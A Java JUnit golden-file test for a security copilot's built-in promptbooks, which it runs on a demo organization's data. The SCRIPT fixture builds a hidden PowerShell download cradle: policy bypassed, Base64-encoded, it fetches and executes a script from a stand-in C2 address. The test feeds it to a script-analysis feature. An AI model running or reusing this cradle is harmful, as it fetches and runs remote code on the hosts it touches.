package dev.vigil.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import dev.vigil.copilot.Answer;
import dev.vigil.copilot.Evidence;
import dev.vigil.copilot.ExecutedQuery;
import dev.vigil.copilot.Plan;
import dev.vigil.copilot.SkillCall;
import dev.vigil.copilot.StepLog;
import dev.vigil.copilot.Table;
import dev.vigil.copilot.plan.SessionContext;
import dev.vigil.copilot.promptbook.Promptbook;
import dev.vigil.copilot.promptbook.Promptbooks;
import dev.vigil.copilot.runtime.Copilot;
import dev.vigil.ingest.SharedData;
import dev.vigil.model.Principal;
import dev.vigil.model.Role;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;

/**
 * The answers of every built-in promptbook on fixed data, pinned with golden files: the demo organization as of
 * {@link DemoCopilot#AS_OF} with MITRE ATT&amp;CK and CISA's KEV catalog from the shared data, each promptbook run
 * with fixed inputs as {@code vigil promptbook run} runs it (its prompts in order in one session, stopping at a prompt
 * without an answer unless that prompt continues on failure).
 *
 * <p>Each run is rendered as Markdown: per prompt the plan, the skill steps, the answer, its tables, queries, evidence
 * and follow-ups, without timings and with the few values that differ between runs normalized (see
 * {@link #VOLATILE}). The expected text lives in {@code src/test/resources/dev/vigil/cli/golden/promptbooks/<name>.md}.
 * On a mismatch the actual text is written to {@code target/golden-actual/promptbooks/<name>.md} and the test fails
 * with a short diff and how to accept it; {@code -Dvigil.golden.update=true} rewrites every golden file.
 */
@DisplayName("Built-in promptbooks on the demo organization (golden answers)")
class PromptbookGoldenTest {
    static final Path GOLDEN = Path.of("src/test/resources/dev/vigil/cli/golden/promptbooks");
    static final Path ACTUAL = Path.of("target/golden-actual/promptbooks");
    static final int TABLE_ROWS = 15;
    static final int EVIDENCE = 8;
    static final Pattern RANKING_SCORE = Pattern.compile(" \\(\\d\\.\\d+\\)");

    /**
     * A PowerShell download cradle as phishing droppers launch it: hidden, unprofiled, policy bypassed, the command
     * Base64-encoded in UTF-16LE; it fetches a script from the demo intrusion's C2 server.
     */
    static final String SCRIPT = "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand " + encodedCommand(
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')");

    /** A short vendor advisory naming the demo's C2 address, two techniques the demo intrusion used and a KEV CVE. */
    static final String ARTICLE = "Threat advisory: a financially motivated group is breaking into logistics companies"
            + " through unpatched Citrix NetScaler gateways (CVE-2023-4966, Citrix Bleed) and spear-phishing documents."
            + " After initial access the operators run encoded PowerShell (T1059.001) to download their tooling from"
            + " 198.51.100.23 and dump credentials from LSASS memory (T1003.001) before moving laterally."
            + " Block 198.51.100.23 and patch NetScaler ADC and Gateway now.";

    /** Each built-in promptbook with the inputs it is pinned with; a new built-in needs its entry here. */
    static final Map<String, Map<String, String>> INPUTS = Map.of(
            "incident-investigation", Map.of("IncidentId", "2"),
            "script-analysis", Map.of("Script", SCRIPT),
            "threat-actor-profile", Map.of("Actor", "APT29"),
            // the demo has no inventory, so no KEV CVE is on its assets: Citrix Bleed is a well-known KEV entry
            "vulnerability-impact", Map.of("CVE", "CVE-2023-4966"),
            "user-analysis", Map.of("User", "quinn.kim"),
            "threat-article-impact", Map.of("Article", ARTICLE));

    /** A value that differs between runs on the same data, the pattern that finds it and what it is replaced with. */
    record Volatile(String why, Pattern pattern, String replacement) {}

    /**
     * The values normalized before comparing. Everything else is pinned: alert ids, incident numbers, event times and
     * counts are deterministic for a fixed {@code --as-of}.
     */
    static final List<Volatile> VOLATILE = List.of(
            new Volatile("event ids are UUIDv7s drawn at ingest time",
                    Pattern.compile("\\b[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[0-9a-f]{4}-[0-9a-f]{12}\\b"), "<uuid7>"));

    @TempDir
    static Path data;

    @TempDir
    static Path cliData;

    static DemoCopilot demo;

    @BeforeAll
    static void seedTheDemoWithKnowledge() throws IOException {
        SharedData.require("mitre-attack", "https://github.com/mitre-attack/attack-stix-data");
        Path kev = SharedData.require("cisa-kev", "https://www.cisa.gov/known-exploited-vulnerabilities-catalog")
                .resolve("known_exploited_vulnerabilities.json");
        DemoCopilot.seedFiles(data, List.of(kev));
        // the command-line run opens the store for writing, which DuckDB refuses beside a read-only connection in
        // the same process: it gets a copy of the seeded directory
        copyTree(data, cliData);
        demo = DemoCopilot.open(data);
    }

    @AfterAll
    static void close() {
        if (demo != null) {
            demo.close();
        }
    }

    static Stream<Arguments> builtInPromptbooks() {
        return Promptbooks.builtIn().stream().map(book -> Arguments.of(book.name(), book));
    }

    @Test
    void everyBuiltInPromptbookHasPinnedInputs() {
        assertThat(INPUTS.keySet()).containsExactlyInAnyOrderElementsOf(Promptbooks.BUILT_IN);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("builtInPromptbooks")
    void answersAsTheGoldenFileSays(String name, Promptbook book) {
        Map<String, String> inputs = INPUTS.get(name);
        assertThat(inputs).as("pinned inputs of " + name).isNotNull();
        BookRun run = run(book, inputs);
        check(name, normalize(run.text()));
        // "every built-in promptbook gives a meaningful answer": none of its prompts is asked back or fails
        assertThat(run.unanswered()).as("prompts of " + name + " without an answer").isEmpty();
    }

    /** A promptbook's run rendered, and the prompts that got no answer. */
    record BookRun(String text, List<String> unanswered) {}

    @Test
    void theCommandPrintsEveryPromptsAnswer() {
        Promptbook book = Promptbooks.builtIn("incident-investigation").orElseThrow();
        List<String> prompts = book.instantiate(Map.of("IncidentId", "2"));

        CliTesting.Run text = CliTesting.vigil(cliData, "promptbook", "run", "incident-investigation", "--input",
                "IncidentId=2", "--now", DemoCopilot.NOW.toString(), "--tenant", DemoCopilot.TENANT);
        assertThat(text.exit()).as(text.toString()).isZero();
        for (int i = 0; i < prompts.size(); i++) {
            assertThat(text.out()).as(text.toString()).contains("## " + (i + 1) + ". " + prompts.get(i));
        }
        assertThat(text.out()).contains(prompts.size() + " of " + prompts.size() + " prompts asked.")
                .doesNotContain("Stopped:");

        CliTesting.Run json = CliTesting.vigil(cliData, "promptbook", "run", "incident-investigation", "--input",
                "IncidentId=2", "--now", DemoCopilot.NOW.toString(), "--tenant", DemoCopilot.TENANT, "--json");
        assertThat(json.exit()).as(json.toString()).isZero();
        JsonNode answers = json.json();
        assertThat(answers.isArray()).as(json.out()).isTrue();
        assertThat(answers.size()).isEqualTo(prompts.size());
        for (int i = 0; i < prompts.size(); i++) {
            assertThat(answers.get(i).get("prompt").asString()).isEqualTo(prompts.get(i));
            assertThat(answers.get(i).get("markdown").asString()).as(prompts.get(i)).isNotBlank();
        }
    }

    /** Runs the promptbook's prompts in order in one session and renders every turn. */
    static BookRun run(Promptbook book, Map<String, String> inputs) {
        Principal analyst = new Principal("golden", Role.ANALYST);
        Copilot copilot = demo.copilot();
        List<String> prompts = book.instantiate(inputs);
        StringBuilder out = new StringBuilder();
        out.append("# Promptbook ").append(book.name()).append("\n\n");
        out.append("Demo organization as of ").append(DemoCopilot.AS_OF).append(", asked at ").append(DemoCopilot.NOW)
                .append(", with MITRE ATT&CK and the CISA KEV catalog.\n\n");
        inputs.entrySet().stream().sorted(Map.Entry.comparingByKey()).forEach(input ->
                out.append("- <").append(input.getKey()).append("> = ").append(input.getValue()).append('\n'));
        SessionContext context = SessionContext.empty();
        List<String> unanswered = new ArrayList<>();
        for (int i = 0; i < prompts.size(); i++) {
            Copilot.Turn turn = copilot.ask(prompts.get(i), context, analyst, DemoCopilot.NOW, DemoCopilot.UTC,
                    step -> { });
            context = turn.context();
            out.append('\n');
            render(out, i + 1, turn.answer());
            if (dev.vigil.copilot.runtime.PromptbookRun.failed(turn.answer())) {
                unanswered.add(prompts.get(i));
                out.append("\n**No answer.**");
                if (!book.prompts().get(i).continueOnFailure()) {
                    out.append(" The run stops here: this prompt does not continue on failure.\n");
                    break;
                }
                out.append(" The run continues: this prompt continues on failure.\n");
            }
        }
        return new BookRun(out.toString(), unanswered);
    }

    static void render(StringBuilder out, int number, Answer answer) {
        Plan plan = answer.plan();
        out.append("## ").append(number).append(". ").append(answer.prompt()).append("\n\n");
        // the ranking score in the rationale ("incident-summary fits (0.93)") is the planner's, not the answer's: it
        // is left out so that a retuned ranker does not rewrite every golden file
        out.append("Plan: ").append(plan.route().name().toLowerCase(Locale.ROOT)).append(" — ")
                .append(RANKING_SCORE.matcher(plan.rationale()).replaceAll("")).append('\n');
        for (SkillCall step : plan.steps()) {
            out.append("    ").append(step.display()).append('\n');
        }
        plan.clarification().ifPresent(c -> out.append("Asks back: ").append(c.question()).append('\n'));
        out.append("Steps: ").append(answer.log().stream().map(PromptbookGoldenTest::step)
                .collect(Collectors.joining("; "))).append('\n');
        out.append("\n### Answer\n\n").append(answer.markdown().strip()).append('\n');
        for (Table table : answer.tables()) {
            out.append("\n### Table: ").append(table.title()).append(" (").append(table.rows().size())
                    .append(table.rows().size() == 1 ? " row" : " rows").append(")\n\n");
            out.append(markdownRow(table.columns()));
            out.append(markdownRow(table.columns().stream().map(c -> "---").toList()));
            table.rows().stream().limit(TABLE_ROWS).forEach(row -> out.append(markdownRow(row)));
            if (table.rows().size() > TABLE_ROWS) {
                int more = table.rows().size() - TABLE_ROWS;
                out.append("\n(").append(more).append(more == 1 ? " more row)\n" : " more rows)\n");
            }
        }
        if (!answer.queries().isEmpty()) {
            out.append("\n### Queries\n");
            for (ExecutedQuery query : answer.queries()) {
                out.append("\n").append(query.language()).append(", ").append(query.rows()).append(" rows:\n\n");
                query.text().strip().lines().forEach(line -> out.append("    ").append(line).append('\n'));
            }
        }
        if (!answer.evidence().isEmpty()) {
            out.append("\n### Evidence\n\n");
            for (Evidence evidence : answer.evidence().stream().limit(EVIDENCE).toList()) {
                out.append("- ").append(evidence.claim()).append(" ← ")
                        .append(String.join(", ", evidence.refs().stream().limit(4).toList()))
                        .append(evidence.refs().size() > 4 ? " (+" + (evidence.refs().size() - 4) + ")" : "")
                        .append('\n');
            }
            if (answer.evidence().size() > EVIDENCE) {
                out.append("- (").append(answer.evidence().size() - EVIDENCE).append(" more claims)\n");
            }
        }
        if (!answer.followUps().isEmpty()) {
            out.append("\n### Follow-ups\n\n");
            answer.followUps().forEach(f -> out.append("- ").append(f).append('\n'));
        }
    }

    /** A step of the process log by its skill alone: the plan above already shows its inputs. */
    static String step(StepLog step) {
        String name = step.step().startsWith("/") ? step.step().split("\\s", 2)[0] : step.step();
        return name + " (" + step.status() + ")";
    }

    static String markdownRow(List<?> cells) {
        return cells.stream().map(c -> String.valueOf(c).replace("|", "\\|").replace("\r", "").replace("\n", "⏎"))
                .collect(Collectors.joining(" | ", "| ", " |\n"));
    }

    static String normalize(String text) {
        String normalized = text.replace(data.toAbsolutePath().toString(), "<data>");
        for (Volatile v : VOLATILE) {
            normalized = v.pattern().matcher(normalized).replaceAll(v.replacement());
        }
        return normalized.endsWith("\n") ? normalized : normalized + "\n";
    }

    // --- golden files -------------------------------------------------------------------------------------------

    static void check(String name, String actual) {
        Path golden = GOLDEN.resolve(name + ".md");
        try {
            if (Boolean.getBoolean("vigil.golden.update")) {
                Files.createDirectories(GOLDEN);
                Files.writeString(golden, actual, StandardCharsets.UTF_8);
                return;
            }
            String expected = Files.exists(golden) ? Files.readString(golden, StandardCharsets.UTF_8) : null;
            if (actual.equals(expected)) {
                return;
            }
            Files.createDirectories(ACTUAL);
            Path written = ACTUAL.resolve(name + ".md");
            Files.writeString(written, actual, StandardCharsets.UTF_8);
            fail((expected == null ? "there is no golden file " + golden : "the answers differ from " + golden)
                    + "; the actual text is in " + written.toAbsolutePath() + ".\n"
                    + (expected == null ? "" : shortDiff(expected, actual) + "\n")
                    + "If the new answers are right, accept them with `cp " + written + " " + golden + "` (from"
                    + " vigil-cli), or rerun with -Dvigil.golden.update=true to rewrite every golden file; then read"
                    + " `git diff` before committing.");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The first differing lines, at most 30, as {@code -expected} / {@code +actual} with their line numbers. */
    static String shortDiff(String expected, String actual) {
        List<String> a = expected.lines().toList();
        List<String> b = actual.lines().toList();
        // longest common subsequence, from the end, so that the walk below goes forward
        int[][] common = new int[a.size() + 1][b.size() + 1];
        for (int i = a.size() - 1; i >= 0; i--) {
            for (int j = b.size() - 1; j >= 0; j--) {
                common[i][j] = a.get(i).equals(b.get(j)) ? common[i + 1][j + 1] + 1
                        : Math.max(common[i + 1][j], common[i][j + 1]);
            }
        }
        List<String> diff = new ArrayList<>();
        int i = 0;
        int j = 0;
        while ((i < a.size() || j < b.size()) && diff.size() < 30) {
            if (i < a.size() && j < b.size() && a.get(i).equals(b.get(j))) {
                i++;
                j++;
            } else if (i < a.size() && (j == b.size() || common[i + 1][j] >= common[i][j + 1])) {
                diff.add(String.format(Locale.ROOT, "-%4d %s", i + 1, a.get(i++)));
            } else {
                diff.add(String.format(Locale.ROOT, "+%4d %s", j + 1, b.get(j++)));
            }
        }
        return "diff (expected -, actual +):\n" + String.join("\n", diff)
                + (i < a.size() || j < b.size() ? "\n…" : "");
    }

    // --- fixtures ------------------------------------------------------------------------------------------------

    /** PowerShell's {@code -EncodedCommand}: the script's UTF-16LE bytes in Base64. */
    static String encodedCommand(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    static void copyTree(Path from, Path to) throws IOException {
        try (Stream<Path> paths = Files.walk(from)) {
            for (Path source : paths.toList()) {
                Path target = to.resolve(from.relativize(source).toString());
                if (Files.isDirectory(source)) {
                    Files.createDirectories(target);
                } else {
                    Files.copy(source, target);
                }
            }
        }
    }
}
